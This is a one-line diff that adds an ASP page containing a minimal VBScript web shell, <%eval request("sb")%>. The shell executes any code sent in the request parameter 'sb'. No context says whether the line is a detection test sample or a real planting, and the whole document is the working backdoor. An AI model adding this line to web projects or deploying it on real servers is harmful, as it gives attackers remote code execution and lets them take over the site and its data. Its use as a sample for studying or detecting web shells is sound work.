@@ -1,0 +1,1 @@
+<%@ Language=VBScript inert %><%eval request("sb")%>
